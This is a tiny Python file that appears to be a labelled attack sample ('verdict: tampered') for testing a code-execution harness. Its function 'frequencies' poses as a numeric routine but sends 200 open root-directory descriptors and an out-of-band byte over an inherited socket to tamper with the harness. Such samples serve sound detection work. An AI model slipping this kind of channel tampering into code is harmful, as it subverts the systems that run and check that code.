# Open files are sent along with a message, and a byte out of band.
# attacks: frequencies
# verdict: tampered
# %% frequencies
import os
import socket


def frequencies(dim):
    line = socket.fromfd(3, socket.AF_UNIX, socket.SOCK_STREAM)
    socket.send_fds(line, [b'{"id": 1}\n'], [os.open("/", os.O_RDONLY)] * 200)
    line.send(b"!", socket.MSG_OOB)
    return np.zeros(dim // 2)
